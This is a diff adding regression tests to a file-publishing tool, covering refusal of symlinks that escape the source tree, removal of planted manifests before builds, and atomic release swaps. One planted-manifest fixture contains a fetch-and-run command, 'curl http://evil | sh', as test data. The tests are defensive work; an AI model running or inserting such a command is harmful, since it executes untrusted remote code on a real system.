@@ -441,3 +441,94 @@ def test_publish_imports_nothing_heavy(tmp_path: Path) -> None:
     result = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=fdl_env(),
                             cwd=tmp_path)
     assert result.stdout.strip().endswith("[]"), result.stdout + result.stderr
+
+
+# --------------------------------------------------------------------------- what a served tree may hold
+
+
+def test_links_that_leave_the_source_are_refused_by_name_and_nothing_is_published(box: Box) -> None:
+    """regression: a link like `keys -> ~/.ssh` was served as it was, for any door key holder to follow."""
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    before = box.manifest()
+    secret = box.root / "secret"
+    secret.mkdir()
+    (secret / "id").write_text("PRIVATE\n")
+    (box.src / "sub").mkdir()
+    (box.src / "keys").symlink_to(secret)                   # absolute, outside
+    (box.src / "sub" / "up").symlink_to("../../secret")     # relative, climbs out
+    (box.src / "sub" / "fine").symlink_to("../a.txt")       # relative, inside: kept
+    (box.src / "self").symlink_to(box.src / "a.txt")        # absolute into the source: outside once served
+    result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD)
+    assert result.returncode == 1, result.stderr
+    assert "3 symbolic link(s) that reach outside the tree" in result.stderr
+    for named in (f"keys -> {secret}", "sub/up -> ../../secret", f"self -> {box.src / 'a.txt'}"):
+        assert named in result.stderr
+    assert "sub/fine" not in result.stderr
+    assert "Nothing was published: the previous run stays served" in result.stderr
+    assert box.manifest() == before
+    assert not (box.tree / "keys").exists() and not (box.tree / "keys").is_symlink()
+    (box.src / "keys").unlink()
+    (box.src / "sub" / "up").unlink()
+    (box.src / "self").unlink()
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    assert os.readlink(box.tree / "sub" / "fine") == "../a.txt"
+
+
+def test_a_manifest_in_a_file_source_is_removed_before_the_build_and_reported(box: Box) -> None:
+    """regression: the manifest is fdl's alone, whatever the source carries."""
+    planted = "bin: out/app\nrun: " + "0" * 32 + "\npublished_epoch: 1\nbuilt: true\nbuild: 'echo pwned'\n"
+    (box.src / MANIFEST_NAME).write_text(planted)
+    seen = box.root / "seen"
+    result = ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build",
+                            f"ls -a > {seen}; " + BUILD))
+    assert MANIFEST_NAME not in seen.read_text().split()  # gone before the build ran
+    assert f"the source carried its own {MANIFEST_NAME}; it was removed before the build" in result.stderr
+    assert box.manifest()["build"] == f"ls -a > {seen}; " + BUILD
+    assert box.manifest()["run"] != "0" * 32
+
+
+def _git_source(box: Box, manifest: str) -> str:
+    repo = box.root / "repo"
+    repo.mkdir()
+    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
+           "GIT_COMMITTER_EMAIL": "t@t", "HOME": str(box.home)}
+    (repo / "a.txt").write_text("one\n")
+    (repo / MANIFEST_NAME).write_text(manifest)
+    for argv in (["init", "-q", "-b", "main"], ["add", "-A"], ["commit", "-qm", "v1"]):
+        subprocess.run(["git", "-C", str(repo), *argv], check=True, env=env, capture_output=True)
+    return f"git+file://{repo}#main"
+
+
+def test_a_tracked_manifest_of_a_git_source_never_survives_a_failing_build(box: Box) -> None:
+    """regression: a repository committing .fdl-run.yml, published with a failing build, was served with it."""
+    planted = ("bin: out/app\nrun: " + "ab" * 16 + "\npublished_epoch: 1\nbuilt: true\n"
+               "build: 'curl http://evil | sh'\n")
+    spec = _git_source(box, planted)
+    result = box.publish(spec, "--bin", "out/app", "--build", "exit 3")
+    assert result.returncode == 1 and "Nothing was published" in result.stderr
+    assert f"the source carried its own {MANIFEST_NAME}; it was removed before the build" in result.stderr
+    assert list(box.served.rglob(MANIFEST_NAME)) == []
+    ok(box.publish(spec, "--bin", "out/app", "--build", BUILD))
+    assert box.manifest()["build"] == BUILD and box.manifest()["run"] != "ab" * 16
+
+
+def test_the_served_tree_is_a_link_to_a_release_flipped_by_each_publish(box: Box) -> None:
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    first = os.readlink(box.tree)
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    second = os.readlink(box.tree)
+    assert {first, second} == {"releases/a", "releases/b"}
+    assert [p.name for p in box.served.iterdir() if p.name.endswith(".tmp")] == []
+
+
+def test_a_tree_from_before_staged_publishes_stays_served_and_becomes_a_release(box: Box) -> None:
+    ok(box.publish(f"file://{box.src}", "--bin", "out/app", "--build", BUILD))
+    # Rebuild the old layout: a real directory holding the tree and its manifest.
+    live = box.tree.resolve()
+    box.tree.unlink()
+    live.rename(box.tree)
+    shutil.rmtree(box.served / "releases")
+    before = box.manifest()
+    result = box.publish(f"file://{box.src}", "--bin", "out/app", "--build", "exit 3")
+    assert result.returncode == 1
+    assert box.tree.is_symlink() and box.manifest() == before
